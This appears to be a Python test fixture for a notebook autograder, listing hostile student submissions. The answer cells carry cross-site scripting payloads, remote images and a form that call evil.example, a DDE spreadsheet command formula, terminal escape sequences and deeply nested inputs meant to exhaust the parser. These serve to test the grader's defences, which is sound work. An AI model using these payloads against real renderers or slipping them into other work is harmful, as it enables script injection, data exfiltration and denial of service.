"""Answers in words, and other text of a student's, that mean harm to its reader."""

import base64

from nbformat.v4 import new_markdown_cell, new_raw_cell

from tests.grading.hostile import QUESTION, HandedIn, cell_of, honest
from tests.grading.hostile_notebooks import SCRIPT, Notebook, edited


def answered(text: str) -> HandedIn:
    """An honest notebook with that text as the answer to the question."""
    return edited(
        lambda notebook: cell_of(notebook, QUESTION).update(source=text), honest
    )


def _claimed_to_be_text(notebook: Notebook) -> None:
    cell = cell_of(notebook, QUESTION)
    cell.update(cell_type="code", outputs=[], execution_count=None)
    cell.source = f"from IPython.display import HTML\nHTML({SCRIPT!r})"


def _attached(notebook: Notebook) -> None:
    picture = base64.b64encode(f"<svg onload=alert(1)>{SCRIPT}</svg>".encode()).decode()
    cell = cell_of(notebook, QUESTION)
    cell.attachments = {"x.svg": {"image/svg+xml": picture, "text/html": SCRIPT}}
    cell.source = "![x](attachment:x.svg)"


def _own_text(notebook: Notebook) -> None:
    """Cells of one's own that are no code."""
    bad = (
        f"{SCRIPT}<svg onload=alert(1)> [x](javascript:alert(1)) ![](//evil.example/x)"
    )
    raw = new_raw_cell(
        bad, metadata={"raw_mimetype": "text/html", "format": "text/html"}
    )
    notebook.cells += [new_markdown_cell(bad), raw, new_markdown_cell(bad)]


WORDS = {
    "a script as an answer": answered(
        SCRIPT + "<ScRiPt src=//evil.example/x></sCrIpT >"
    ),
    "a picture that runs a script": answered(
        "<svg onload=alert(1)><svg/onload=alert(1)//<svg><script>alert(1)</script>"
    ),
    "a frame": answered(
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"
        "<object data=x></object><embed src=x><applet code=x><frameset onload=alert(1)>"
    ),
    "attributes that run scripts": answered(
        "<b onmouseover=alert(1)>x</b><img src=x onerror=alert(1)><details ontoggle="
        "alert(1) open><body onload=alert(1)><input autofocus onfocus=alert(1)>"
    ),
    "links that run scripts": answered(
        "[x](javascript:alert(1)) <javascript:alert(1)> [y][1] "
        "<a href='java\tscript:alert(1)'>z</a> [v](vbscript:x) [d](data:text/html,x) "
        "[e](&#106;avascript:alert(1)) [u](JaVaScRiPt:alert(1))\n\n"
        "[1]: javascript:alert(1)"
    ),
    "remote pictures": answered(
        "![x](https://evil.example/x.png) <img src=//evil.example/y> "
        "![x][1] <video poster=//evil.example/z> <p background=//evil.example/a>\n\n"
        "[1]: http://evil.example/x.png"
    ),
    "styles that cover the page": answered(
        "<style>*{display:none}</style><p style='position:fixed;top:0;width:100%;"
        "background:url(//evil.example/x)'>10 of 10</p><link rel=stylesheet href=//x>"
    ),
    "a form": answered(
        "<form action=//evil.example><input name=x><button>Give full marks</button>"
        "</form><meta http-equiv=refresh content='0;//evil.example'><base href=//evil>"
    ),
    "formulas that run scripts": answered(
        r"$\href{javascript:alert(1)}{x}$ $$\require{html}\class{x}{\style{x}{y}}$$"
        r" \(\unicode{<script>}\) $\def\x{\x\x}\x$"
    ),
    "tags that are broken": answered(
        "<scr<script>ipt>alert(1)</scr</script>ipt> <<script>alert(1);//<</script> "
        '<img """><script>alert(1)</script>"> <!--<script>--><script>alert(1)</script>'
        " `<script>` \n\n    <script>\n\n```html\n</code><script>alert(1)</script>\n```"
    ),
    "a thousand environments": answered(r"\begin{a}" * 16_000),
    "nested quotes": answered(">" * 20_000 + " x"),
    "nested brackets": answered("[" * 50_000 + "](" * 50_000),
    "emphasis without an end": answered("*a_" * 50_000 + "`" * 20_001),
    "a table without an end": answered("|a" * 20_000 + "\n" + "|-" * 20_000),
    "escape sequences as an answer": answered("\x1b]0;owned\x07\x1b[2J\x9b2J\0\x7f\b"),
    "a formula of a spreadsheet as an answer": answered("=cmd|' /C calc'!A0"),
    "the marker of a solution as an answer": answered("### BEGIN SOLUTION\n" * 5000),
    "code as an answer in words": edited(_claimed_to_be_text, honest),
    "an attached picture with a script": edited(_attached, honest),
    "own cells that are no code": edited(_own_text, honest),
}
